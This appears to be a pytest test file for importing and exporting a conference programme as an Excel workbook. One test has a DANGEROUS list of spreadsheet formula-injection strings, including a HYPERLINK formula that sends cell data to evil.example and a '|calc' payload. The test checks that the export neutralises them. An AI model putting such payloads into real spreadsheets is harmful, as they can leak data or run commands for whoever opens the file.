"""The programme as a workbook: what is filled in is imported, and what has no column stays."""

from __future__ import annotations

import datetime as dt
import io
import random
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from openpyxl import Workbook, load_workbook

from events import programme_file
from events.models import Conference, Material, Room, Segment, Session, TextSection
from events.programme_file.problems import Problem
from events.programme_file.workbook import sheets
from registration.models import Admission
from speakers.models import Contribution, Person
from tests.events import programme_state
from tests.events.programme_files import SMALL
from tests.events.programmes_of_all_kinds import OWN, PARALLEL, SHARED, WITHOUT_SESSIONS, make_everything


def edited(data: bytes, *changes: tuple[str, str, Any]) -> bytes:
    """A workbook with values put into cells: sheet, cell, value."""
    book = load_workbook(io.BytesIO(data))
    for sheet, cell, value in changes:
        book[sheet][cell] = value
    return saved(book)


def saved(book: Workbook) -> bytes:
    """The bytes of a workbook."""
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def cell_of(data: bytes, sheet: str, heading: str, key: str) -> str:
    """The name of the cell in the row that begins with the key, or stands beside the heading in an upright sheet."""
    page = load_workbook(io.BytesIO(data))[sheet]
    if sheet == "Conference":
        return next(f"B{row}" for row in range(1, page.max_row + 1) if page.cell(row, 1).value == heading)
    column = next(c for c in range(1, page.max_column + 1) if page.cell(1, c).value == heading)
    row = next(r for r in range(1, page.max_row + 1) if page.cell(r, 1).value == key)
    return str(page.cell(row, column).coordinate)


def problems_of(data: bytes) -> list[Problem]:
    """What the import says is wrong; nothing may have been written."""
    before = programme_state.state()
    with pytest.raises(programme_file.InvalidFile) as caught:
        programme_file.load(data)
    assert programme_state.state() == before
    return caught.value.problems


@pytest.fixture
def small(db: None) -> bytes:
    """The workbook of the small programme, which is in the database."""
    programme_file.load(SMALL.encode())
    return programme_file.export_workbook(Conference.objects.get())


# --- round trips ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        SMALL.encode(),
        PARALLEL,
        WITHOUT_SESSIONS,
        OWN.read_bytes(),
        pytest.param(
            SHARED,
            marks=[pytest.mark.shared, pytest.mark.skipif(not SHARED.exists(), reason="../shared is not here")],
        ),
    ],
    ids=["small", "parallel", "without sessions", "demo", "2020"],
)
def test_an_unchanged_workbook_changes_nothing(db: None, data: bytes | Path) -> None:
    programme_file.load(data if isinstance(data, bytes) else data.read_bytes())
    before = programme_state.state()

    outcome = programme_file.load(programme_file.export_workbook(Conference.objects.get()))

    assert outcome.lines == []
    assert programme_state.state() == before


def test_an_unchanged_workbook_changes_nothing_of_what_only_the_admin_can_say(db: None) -> None:
    make_everything()
    before = programme_state.state()

    outcome = programme_file.load(programme_file.export_workbook(Conference.objects.get()))

    assert outcome.lines == []
    assert programme_state.state() == before


# --- what is filled in ----------------------------------------------------------------------------------------------


def rows(page: Any, *lines: dict[str, Any]) -> None:
    """Fill rows of an empty sheet by its headings."""
    headings = {page.cell(1, number).value: number for number in range(1, page.max_column + 1)}
    for row, line in enumerate(lines, start=2):
        for heading, value in line.items():
            page.cell(row, headings[heading]).value = value


def filled_template() -> bytes:
    """The template, filled in by somebody whose spreadsheet program takes some things for dates and numbers."""
    book = load_workbook(io.BytesIO(programme_file.workbook_template()))
    page = book["Conference"]
    about: dict[Any, Any] = {
        "Key": "sheet-1", "Title (en)": "From a sheet", "Title (ru)": "Из таблицы",
        "First day": dt.datetime(2030, 7, 15), "Last day": "2030-07-15", "Time zone": "Europe/Vienna",
        "Format": "hybrid", "City (en)": "Vienna",
        "Working languages": "English\nRussian", "Livestreamed": True, "Contact phone": 43151436,
    }  # fmt: skip
    for row in range(1, page.max_row + 1):
        if page.cell(row, 1).value in about:
            page.cell(row, 2).value = about[page.cell(row, 1).value]
    rows(book["Rooms"], {"Name (en)": "Hall", "Name (ru)": "Зал", "Seats": 40.0})
    rows(book["Days"], {"Number": 1, "Date": dt.date(2030, 7, 15)})
    rows(
        book["Sessions"],
        {"Key": "opening", "Kind": "opening", "Title (en)": 2030, "Date": "2030-07-15", "Start": dt.time(9, 30),
         "End": "10:00", "Room": "Hall"},
        {},
        {"Key": "side", "Kind": "side_event", "Title (en)": "Side", "Registration": "own_form"},
    )  # fmt: skip
    rows(book["Texts"], {"Session": "side", "Text": "background", "Words (en)": "Why"})
    rows(book["Segments"], {"Session": "opening", "Order": 1, "Key": "panel", "Kind": "panel", "Shown": "after"})
    rows(
        book["Contributions"],
        {"Session": "opening", "Order": 1, "Segment": "panel", "Role": "speaker", "Person": "ada",
         "Status": "confirmed"},
        {"Session": "opening", "Order": 2, "Role": "expert", "Seat without a name (en)": "A voter", "Status": "unnamed",
         "To be confirmed": "Yes"},
    )  # fmt: skip
    rows(book["Convenors"], {"Session": "side", "Organisation": "office", "Relation": "collaborator", "Order": 1})
    rows(
        book["Results"],
        {"Session": "opening", "Number": 6, "Words (en)": "Above"},
        {"Session": "opening", "Number": "6.1", "Words (en)": "Below"},
    )
    rows(book["Materials"], {"Kind": "document", "Address": "https://paper.example", "Shown": "before"})
    rows(book["Admissions"], {"Session": "side", "Attendance": "online", "Places": 12})
    rows(book["Persons"], {"Id": "ada", "Given name": "Ada", "Family name": "Berg"})
    rows(book["Organisations"], {"Id": "office", "Name (en)": "Office", "Kind": "ngo"})
    return saved(book)


def test_a_filled_template_makes_a_conference(db: None) -> None:
    programme_file.load(filled_template())

    conference = Conference.objects.get()
    assert (conference.slug, conference.title) == ("sheet-1", {"en": "From a sheet", "ru": "Из таблицы"})
    assert (conference.working_languages, conference.is_livestreamed, conference.contact_phone) == (
        ["en", "ru"], True, "43151436",
    )  # fmt: skip
    opening, side = Session.objects.order_by("key")
    assert (opening.title, opening.room, opening.starts_at) == (
        {"en": "2030"}, Room.objects.get(name={"en": "Hall", "ru": "Зал"}, capacity=40),
        dt.datetime(2030, 7, 15, 7, 30, tzinfo=dt.UTC),
    )  # fmt: skip
    assert [row.text for row in TextSection.objects.filter(session=side)] == [{"en": "Why"}]
    assert [row.visibility for row in Segment.objects.all()] == ["after"]
    assert [(row.name, row.status) for row in Contribution.objects.order_by("position")] == [
        ("Ada Berg", "confirmed"), ("", "tbc"),
    ]  # fmt: skip
    assert [row.relation for row in side.convenorships.all()] == ["collaborator"]
    above, below = opening.recommendations.order_by("pk")
    assert (above.number, below.number, below.parent_id) == (6, 1, above.pk)
    assert Material.objects.get().session is None
    assert Admission.objects.get(session=side).places.capacity == 12


def test_a_filled_template_twice_changes_nothing_the_second_time(db: None) -> None:
    programme_file.load(filled_template())

    assert programme_file.load(filled_template()).lines == []


def test_an_edited_workbook_changes_what_differs(small: bytes) -> None:
    title = cell_of(small, "Sessions", "Title (en)", "side")
    start = cell_of(small, "Sessions", "Start", "side")
    family = cell_of(small, "Persons", "Family name", "cem")
    theme = cell_of(small, "Conference", "Theme (en)", "")

    outcome = programme_file.load(
        edited(
            small, ("Sessions", title, "Beside"), ("Sessions", start, "08:30"), ("Persons", family, "Dahl"),
            ("Conference", theme, None),
        )
    )  # fmt: skip

    assert sorted(outcome.lines) == [
        "conference small-1: theme.en: “Small things” -> nothing",
        "person cem: display_name: “Cem Dal” -> “Cem Dahl”",
        "person cem: family_name: “Dal” -> “Dahl”",
        "session side: starts_at: 2030-07-16 07:00:00+00:00 -> 2030-07-16 06:30:00+00:00",
        "session side: title.en: “On the side” -> “Beside”",
    ]


def test_a_deleted_row_is_removed_and_a_deleted_sheet_or_column_is_not_covered(small: bytes) -> None:
    book = load_workbook(io.BytesIO(small))
    page = book["Sessions"]
    page.delete_rows(next(row for row in range(2, 10) if page.cell(row, 1).value == "panel-b"))
    page.delete_cols(next(c for c in range(1, 99) if page.cell(1, c).value == "Room"))
    for name in ("Segments", "Contributions", "Persons", "Results", "Days"):
        del book[name]
    before = programme_state.state()

    outcome = programme_file.load(saved(book))

    after = programme_state.state()
    assert outcome.lines == ["session panel-b: removed"]
    assert {name for name, found in after.items() if found != before[name]} == {"Session"}


def test_what_has_no_column_stays(small: bytes) -> None:
    Conference.objects.update(report={"title": "Report"}, anniversaries=["20 years"], title_aliases=["Small I"])
    Session.objects.filter(key="side").update(platform_aliases=["WebEx"], takeaway_kind="challenges", takeaway_count=2)
    Person.objects.filter(key="cem").update(is_hidden=True, aliases=["Çem"])
    before = programme_state.state()

    assert programme_file.load(small).lines == []
    assert programme_state.state() == before


# --- what is wrong --------------------------------------------------------------------------------------------------

WRONG: list[tuple[str, str, str, Any, str]] = [
    ("Sessions", "Start", "side", "half past", 'start: expected a time in quotes such as "11:30", found “half past”'),
    ("Sessions", "Date", "side", "16 July", "date: expected a date such as 2020-07-20, found “16 July”"),
    ("Sessions", "Date", "side", dt.date(2031, 1, 1), "date: 2031-01-01 is outside the conference, which is from"),
    ("Sessions", "Kind", "side", "party", "kind: “party” is not known"),
    ("Sessions", "Key", "side", "a key", "key: expected letters a-z, digits, hyphens and underscores"),
    ("Sessions", "Key", "panel-b", "panel-a", "key: “panel-a” stands twice in sessions; the first is Sessions!A3"),
    ("Sessions", "Number", "panel-a", "one", "number: expected a whole number, found “one”"),
    ("Sessions", "In the agenda", "side", "perhaps", "In the agenda: expected yes or no, found “perhaps”"),
    ("Sessions", "Title (en)", "side", "=1+1", "Title: this is a formula: write the value itself"),
    ("Contributions", "Person", "panel-a", "nobody", "“nobody” is neither in persons nor known from before"),
    ("Contributions", "Session", "opening", "nowhere", "Session: “nowhere” is no session of this conference"),
    ("Segments", "Session", "opening", None, "Session: is missing: give the key of the session"),
    ("Persons", "Pseudonym", "ada", "yes", "pseudonym: a pseudonym has no other name"),
    ("Texts", "Text", "side", "poem", "kind: “poem” is not known"),
    ("Results", "Number", "panel-a", "7.1", "Number: “7.1” stands below “7”, which is not above it"),
    ("Conference", "First day", "", "soon", "start_date: expected a date such as 2020-07-20, found “soon”"),
]


@pytest.mark.parametrize(("sheet", "heading", "key", "value", "message"), WRONG)
def test_a_wrong_cell_is_told_with_its_place(
    small: bytes, sheet: str, heading: str, key: str, value: Any, message: str
) -> None:
    cell = cell_of(small, sheet, heading, key)

    found = problems_of(edited(small, (sheet, cell, value)))

    assert any(problem.located("").startswith(f":{sheet}!{cell}: {message}") for problem in found), found


def test_what_a_sheet_is_not_called_and_headings_that_are_not_known_are_told(small: bytes) -> None:
    book = load_workbook(io.BytesIO(small))
    book["Persons"].title = "People"
    book["Days"]["D1"] = "Weather"
    book["Days"]["E1"] = "Number"
    book["Sessions"]["A1"] = None

    found = [f"{problem.where}: {problem.text}" for problem in problems_of(saved(book))]

    assert [text.split(": remove")[0] for text in found] == [
        ": the sheet “People” is not known",
        "Days!D1: the heading “Weather” is not known",
        "Days!E1: the heading “Number” stands twice; the first is Days!A1",
        "Sessions!A1: the heading “Key” is missing in the sheet Sessions",
    ]


def test_a_workbook_without_the_conference_is_refused(small: bytes) -> None:
    book = load_workbook(io.BytesIO(small))
    del book["Conference"]

    assert problems_of(saved(book)) == [
        Problem(0, "the sheet Conference is missing or empty: it says which conference this is")
    ]


# --- formulas and odd texts -----------------------------------------------------------------------------------------

DANGEROUS = [
    '=HYPERLINK("https://evil.example?"&A1)', "+43 1 51436 6664", "-1+1", "@SUM(A1)", "=1+1", "＝1+1", "|calc", "%0A=1",
    "#N/A", "TRUE", "007", "1e5", "2030-07-15", "'quoted", "line\n=1+1", "_x0041_ and _x000D_",
    "{=1}", "=", "1/2", "⁣=x",
]  # fmt: skip


def test_texts_that_look_like_formulas_are_texts_and_come_back_as_they_were(small: bytes, tmp_path: Path) -> None:
    session = Session.objects.get(key="opening")
    for number, text in enumerate(DANGEROUS, start=100):
        Contribution.objects.create(
            session=session, person=Person.objects.get(key="ada"), position=number, role_title={"en": text, "ru": text},
            internal_note=text,
        )  # fmt: skip
    Conference.objects.update(contact_phone="+43 1 51436 6664", hashtag="@SUM(1)")
    before = programme_state.state()

    data = programme_file.export_workbook(Conference.objects.get())

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        pages = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in page or b"<f " in page for page in pages)
    page = load_workbook(io.BytesIO(data))["Contributions"]
    assert all(cell.data_type != "f" and cell.data_type != "e" for row in page.iter_rows() for cell in row)
    assert all(
        cell.quotePrefix for row in page.iter_rows() for cell in row if str(cell.value)[:1] in ("=", "+", "-", "@")
    )
    assert programme_file.load(data).lines == []
    assert programme_state.state() == before


@pytest.mark.parametrize("seed", range(5))
def test_any_text_comes_back_as_it_was(small: bytes, seed: int) -> None:
    chosen = random.Random(seed)
    signs = [*"=+-@|\t\n '\"#%&<>;,\\/абвäßé漢", "\u00a0", "\U0001f600", "_x0041_", "x", "1"]
    session = Session.objects.get(key="opening")
    for number in range(100, 300):
        text = "".join(chosen.choices(signs, k=chosen.randint(1, 30))).strip()
        Contribution.objects.create(
            session=session,
            person=Person.objects.get(key="ada"),
            position=number,
            role_title={"it": text} if text else {},
        )

    assert programme_file.load(programme_file.export_workbook(Conference.objects.get())).lines == []


def test_a_text_too_long_for_a_cell_is_left_as_it_is(small: bytes) -> None:
    long = "word " * 7000
    Session.objects.filter(key="side").update(internal_note=long.strip(), summary={"en": "Short", "de": long.strip()})

    data = programme_file.export_workbook(Conference.objects.get())

    assert programme_file.load(data).lines == []
    note = cell_of(data, "Sessions", "Internal note", "side")
    assert load_workbook(io.BytesIO(data))["Sessions"][note].value == sheets.TOO_LONG


# --- the command ----------------------------------------------------------------------------------------------------


def test_command_writes_a_workbook_that_the_import_reads(small: bytes, tmp_path: Path) -> None:
    file = tmp_path / "small.xlsx"

    call_command("export_programme", "small-1", format="xlsx", output=str(file))
    call_command("import_programme", str(file))

    assert file.read_bytes().startswith(b"PK")
    with pytest.raises(CommandError, match="needs --output"):
        call_command("export_programme", "small-1", format="xlsx")
